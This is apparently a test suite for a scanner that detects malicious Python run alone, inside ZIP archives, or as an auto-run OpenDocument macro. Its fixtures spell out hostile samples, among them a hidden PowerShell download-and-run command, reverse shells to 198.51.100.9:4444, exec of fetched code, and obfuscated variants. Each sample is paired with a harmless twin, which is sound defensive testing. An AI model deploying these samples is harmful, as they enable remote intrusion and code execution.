/** Python is judged by what it does: alone, in an archive and in OpenDocument, whatever stands between a value and its use. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

const E = '"powershell -w hidden -c iwr http://192.0.2.1/a -OutFile a.exe; .\\\\a.exe"'
const H = '"notepad a.txt"'
const C = 'time.time() > 9'
const start = (body: string): string => `import os, time\n${body}\nos.system(s)\n`
const code = (text: string): string => Buffer.from(text).toString('base64')
const times = (count: number, text: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => text(i)).join('')

const odf = (source: string): Uint8Array =>
  writeZip(
    Object.entries({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$main?language=Python&amp;location=document"/></office:document-content>`,
      'Scripts/python/a.py': source,
    }).map(([name, data]) => ({ name, data })),
  )
const inside = (source: string): string => `def main(*a):\n${source.replace(/^(?=.)/gm, '  ')}`
const LICENSE = { name: 'LICENSE', data: 'Permission is hereby granted.' }

const PLACES: Record<string, (source: string) => [document: Uint8Array, name: string]> = {
  alone: (source) => [Buffer.from(source), 'a.py'],
  'in a ZIP': (source) => [writeZip([{ name: 'a.py', data: source }]), 'a.zip'],
  'in a ZIP with other files': (source) => [writeZip([{ name: 'src/a.py', data: source }, LICENSE]), 'a.zip'],
  'in OpenDocument': (source) => [odf(source), 'a.odt'],
  'in a function in OpenDocument': (source) => [odf(inside(source)), 'a.odt'],
}

type Verdict = 'infected' | 'refused' | 'clean'

function verdictOf([document, name]: [Uint8Array, string]): Verdict {
  const { findings, obstacle } = inspect(document, { name })
  if (findings.some(({ severity }) => severity === 'malicious')) return 'infected'
  return obstacle === null ? 'clean' : 'refused'
}

/** A threat, and a program that resembles it. */
const PAIRS: Record<string, [threat: string, harmless: string]> = {
  'a command': [start(`s = ${E}`), start(`s = ${H}`)],
  'a branch': [start(`s = ${E}\nif ${C}:\n  s = ${H}`), start(`s = ${H}\nif ${C}:\n  s = "notepad b.txt"`)],
  'a choice': [start(`s = ${H} if ${C} else ${E}`), start(`s = ${H} if ${C} else "notepad b.txt"`)],
  'an exception': [
    start(`try:\n  s = ${E}\n  time.sleep(1)\nexcept Exception:\n  s = ${H}`),
    start(`try:\n  s = ${H}\n  time.sleep(1)\nexcept Exception:\n  s = "notepad b.txt"`),
  ],
  'a reversed name': [
    `import os\ngetattr(os, "metsys"[::-1])(${E})\n`,
    `import os\nprint(getattr(os, "sep"), "metsys"[::-1])\n`,
  ],
  'a name in a branch': [
    `import os, time\nn = "getcwd"\nif ${C}:\n  n = "sys" + "tem"\ngetattr(os, n)(${E})\n`,
    `import os, time\nn = "getcwd"\nif ${C}:\n  n = "getpid"\nprint(getattr(os, n)())\n`,
  ],
  'a command in pieces': [
    `import os\na = "power"\nb = "shell -w hidden -c "\nos.system(a + b + "iwr http://192.0.2.1/a -OutFile a.exe; .\\\\a.exe")\n`,
    `import os\na = "note"\nb = "pad "\nos.system(a + b + "a.txt")\n`,
  ],
  'a command of numbers': [
    `import os\ns = ""\nfor c in [${[...'powershell -w hidden iwr http://192.0.2.1/a'].map((letter) => letter.charCodeAt(0) ^ 3)}]:\n  s += chr(c ^ 3)\nos.system(s)\n`,
    `s = ""\nfor c in [${[...'Hello, world, how are you'].map((letter) => letter.charCodeAt(0) ^ 3)}]:\n  s += chr(c ^ 3)\nprint(s)\n`,
  ],
  'decoded code': [
    `import base64\na = base64.b64decode("${code('import os')}")\nb = a.decode()\nexec(b)\n`,
    `import base64\na = base64.b64decode("${code('import os')}")\nb = a.decode()\nprint(b)\n`,
  ],
  'decoded code in a branch': [
    `import base64, time\ns = base64.b64decode("${code('import os')}")\nif ${C}:\n  s = "print(1)"\nexec(s)\n`,
    `import time\ns = "print(2)"\nif ${C}:\n  s = "print(1)"\nexec(s)\n`,
  ],
  'fetched code': [
    `import urllib.request, time\ns = urllib.request.urlopen("https://a.example/a").read()\nt = s.decode()\nif ${C}:\n  t = "1"\nexec(t)\n`,
    `import urllib.request, time\ns = urllib.request.urlopen("https://a.example/a").read()\nt = s.decode()\nif ${C}:\n  t = "1"\nprint(t)\n`,
  ],
  'fetched code by another name': [
    `from urllib.request import urlopen as u\ne = exec\ndef f():\n  return u("https://a.example/a")\ne(f().read())\n`,
    `from urllib.request import urlopen as u\nimport json\ndef f():\n  return u("https://a.example/a")\nprint(json.loads(f().read()))\n`,
  ],
  'a downloaded program': [
    `import urllib.request, os, time\nu = "http://192.0.2.1/a.exe"\nif ${C}:\n  u = "https://a.example/a.txt"\nurllib.request.urlretrieve(u, "a.exe")\nos.startfile("a.exe")\n`,
    `import urllib.request, time\nu = "https://a.example/b.csv"\nif ${C}:\n  u = "https://a.example/a.txt"\nurllib.request.urlretrieve(u, "a.csv")\nprint(open("a.csv").read())\n`,
  ],
  'a shell for another computer': [
    `from socket import socket as k\nfrom os import dup2 as d\nimport pty\ns = k()\ns.connect(("198.51.100.9", 4444))\nd(s.fileno(), 0)\npty.spawn("/bin/sh")\n`,
    `from socket import socket as k\ns = k()\ns.connect(("db.example", 5432))\nprint(s.getpeername())\n`,
  ],
  'commands of another computer': [
    `import socket as k, os as o\ns = k.socket()\ns.connect(("198.51.100.9", 4444))\nwhile True:\n  c = s.recv(1024).decode()\n  o.popen(c)\n`,
    `import socket as k\ns = k.socket()\ns.connect(("db.example", 5432))\nwhile True:\n  c = s.recv(1024).decode()\n  print(c)\n`,
  ],
}

/** A socket, and whatever fetches by itself, is more than a notice in a document that runs it when it is opened. */
const ODF_FETCHES = /fetched|downloaded|computer|decoded code/

for (const [name, [threat, harmless]] of Object.entries(PAIRS))
  suite(`Python with ${name}`, () => {
    for (const [place, put] of Object.entries(PLACES)) {
      test(`${place} is infected`, () => assert.equal(verdictOf(put(threat)), 'infected'))
      if (place.endsWith('OpenDocument') && ODF_FETCHES.test(name)) continue
      test(`${place} has a harmless twin`, () => assert.equal(verdictOf(put(harmless)), 'clean'))
    }
  })

/** More than is followed. */
const BUSY = 'n = 0\nfor i in range(9000):\n  for j in range(9000):\n    n = n + j\n'

suite('Python behind a limit that conceals nothing is judged by what can be read', () => {
  const choose = (name: string, values: readonly string[]): string =>
    values
      .map((value, i) => (i === 0 ? `${name} = ${value}\n` : `if time.time() > ${i}: ${name} = ${value}\n`))
      .join('')
  const words = (...lists: string[][]): string =>
    `import os, subprocess, time\n${BUSY}${lists.map((list, i) => choose(`w${i}`, list)).join('')}subprocess.Popen([${lists.map((_, i) => `w${i}`).join(', ')}])\n`
  const keys = times(5, (i) => `"HKLM\\\\Software\\\\Vendor\\\\${i}"|`)
    .split('|')
    .slice(0, 5)
  const pick = (lists: string): string => `import os, time\n${BUSY}${lists}s = "".join([a for a in p])\nos.system(s)\n`
  const each = (body: string): string =>
    `import os, subprocess\n${BUSY}def f(names, texts):\n  a = "${'abc;'.repeat(100)}"\n  for n in names:\n    a = a or n\n    a = [x + y + z for x in a for y in a for z in a]\n  return a\n${body}`
  const cases: Record<string, [Verdict, string]> = {
    'a known tool with many keys': [
      'clean',
      words(['os.path.join(os.environ["WINDIR"], "reg.exe")', '"reg.exe"'], ['"query"', '"export"'], keys, [
        '"/v"',
        '"/s"',
      ]),
    ],
    'one of many programs with many arguments': [
      'infected',
      words(
        ['"notepad"', '"wordpad"', '"powershell"'],
        ['"a"', '"b"', '"-w hidden"'],
        ['"c"', '"d"', '"iwr http://192.0.2.1/a -OutFile a.exe; .\\\\a.exe"'],
      ),
    ],
    'lists of letters in lists of letters': ['clean', each('subprocess.call(["net", "config", "Workstation"])\n')],
    'a threat after lists of letters in lists of letters': ['infected', each(`os.system(${E})\n`)],
    'a command of pieces that one of two lists has': [
      'refused',
      pick('p = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\nif time.time() > 1: p = ["note", "pad"]\n'),
    ],
    'a command of pieces of a list': ['refused', pick('p = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\n')],
    'one of two lists that are not run': [
      'clean',
      `import os, time\n${BUSY}p = ["a", "b"]\nif time.time() > 1: p = ["c"]\nprint([a for a in p])\nos.system("net config")\n`,
    ],
  }
  for (const [name, [verdict, source]] of Object.entries(cases))
    test(name, () => assert.equal(verdictOf([Buffer.from(source), 'a.py']), verdict))
})

suite('Python behind a limit is not clean', () => {
  const cases: Record<string, string> = {
    'after loops': start(`${BUSY}s = ${E}`),
    'in a branch after loops': start(`${BUSY}s = ${E}\nif ${C}:\n  s = ${H}`),
    'after loops in a function': `${BUSY}import os\ndef f():\n  return ${E}\nos.system(f())\n`,
    'after calls': start(
      `${times(9, (i) => `def b${i}():\n  b${i + 1}(); b${i + 1}(); b${i + 1}(); b${i + 1}(); b${i + 1}()\n`)}def b9():\n  global y\n  y = 1\nb0()\ns = ${E}`,
    ),
    'in the last of many calls': `import os\ndef f(n):\n  if n == 300: os.system(${E})\n  else: f(n + 1)\nf(0)\n`,
    'written by the last of many calls': `import os\ns = ${H}\ndef f(n):\n  global s\n  if n == 300: s = ${E}\n  else: f(n + 1)\nf(0)\nos.system(s)\n`,
    'returned by the last of many calls': `import os\ndef f(n):\n  if n == 300: return ${E}\n  return f(n + 1)\nos.system(f(0))\n`,
    'built by many calls': `import os\nd = [${'1,'.repeat(300)}${[...'powershell -w hidden iwr http://192.0.2.1/a'].map((letter) => letter.charCodeAt(0) + 1)}]\ns = ""\ndef f(i):\n  global s\n  if d[i] > 1: s += chr(d[i] - 1)\n  if i + 1 < len(d): f(i + 1)\nf(0)\nos.system(s)\n`,
    'built after loops': start(
      `${BUSY}s = ""\nfor c in [${[...'powershell -w hidden iwr http://192.0.2.1/a'].map((letter) => letter.charCodeAt(0) + 1)}]:\n  s += chr(c - 1)`,
    ),
    'joined after loops': start(
      `${BUSY}s = ""\nfor c in ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]:\n  s += c`,
    ),
    'one of very many values': start(
      `s = ${H}\n${times(60, (i) => `if time.time() == ${i}: s = "notepad ${i}.txt"\n`)}if ${C}: s = ${E}`,
    ),
    'the first of very many values': start(
      `s = ${E}\n${times(60, (i) => `if time.time() == ${i}: s = "notepad ${i}.txt"\n`)}`,
    ),
    'after very many calls that count': start(`${times(2_100, (i) => `os.system("notepad ${i}.txt")\n`)}s = ${E}`),
    'in very many brackets': `import os\nos.system(${'('.repeat(200)}${E}${')'.repeat(200)})\n`,
    'built in a loop without a known end': `import os, time\nd = [${[...'import os'].map((letter) => letter.charCodeAt(0) + 1)}]\ns = ""\ni = 0\nwhile time.time() > 1:\n  s += chr(d[i] - 1)\n  i += 1\nexec(s)\n`,
    'a very long text': start(`s = "a" * 2000000\ns = s[-1] + chr(1)\n${BUSY}s = s.replace("a", ${E})`),
    'behind comments': start(`${'# comment\n'.repeat(20_000)}s = ${E}\nif ${C}: s = ${H}`),
    'behind functions': start(
      `${times(800, (i) => `def f${i}(a, b):\n  c = a + b * ${i}\n  if c > 3: return c\n  return g(c)\n`)}s = ${E}\nif ${C}: s = ${H}`,
    ),
  }
  for (const [name, source] of Object.entries(cases))
    test(name, () => assert.notEqual(verdictOf([Buffer.from(source), 'a.py']), 'clean'))
})

test('Python behind other programs of an archive is evaluated, whatever they took', () => {
  const other = (file: number): string =>
    `import subprocess\n${times(40, (i) => `def f${i}(x):\n  return ",".join([x + str(i) for i in range(200)])\nz${i} = f${i}("${file}")\n`)}subprocess.run(["git", "status"])\n`
  const pieces = 'import os\np = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\nos.system("".join(p))\n'
  const files = Array.from({ length: 12 }, (_, i) => ({ name: `${i}.py`, data: Buffer.from(other(i)) }))
  const archive = (last: string): Buffer => Buffer.from(writeZip([...files, { name: 'z.py', data: Buffer.from(last) }]))
  assert.equal(verdictOf([archive(pieces), 'a.zip']), 'infected')
  assert.equal(verdictOf([archive('import os\nos.system("".join(["git", " status"]))\n'), 'a.zip']), 'clean')
})

test('a long program among other files gets the work that it would have alone', () => {
  const long = `import subprocess\n${times(150, (i) => `def f${i}(x):\n  return ",".join([x + str(i) for i in range(200)])\nz${i} = f${i}("a")\n`)}c = z1.split(",")[0:1] + ["status"]\nsubprocess.run("git " + c[-1], shell=True)\n`
  const data = Buffer.from(long)
  assert.equal(verdictOf([data, 'a.py']), 'clean')
  assert.equal(verdictOf([writeZip([{ name: 'src/a.py', data }, LICENSE]), 'a.zip']), 'clean')
})

test('tuples of tuples are compared as far as the work lasts', () => {
  const doubled = Array.from({ length: 40 }, () => 'x = (x, x)\ny = (y, y)').join('\n')
  const program = `import os\nx = (1, 2)\ny = (1, 2)\n${doubled}\nos.system(str(sorted([x, y])))\n`
  const { findings } = inspect(Buffer.from(program), { passwords: [], name: 'a.py' })
  assert.ok(findings.every(({ severity }) => severity !== 'malicious'))
})
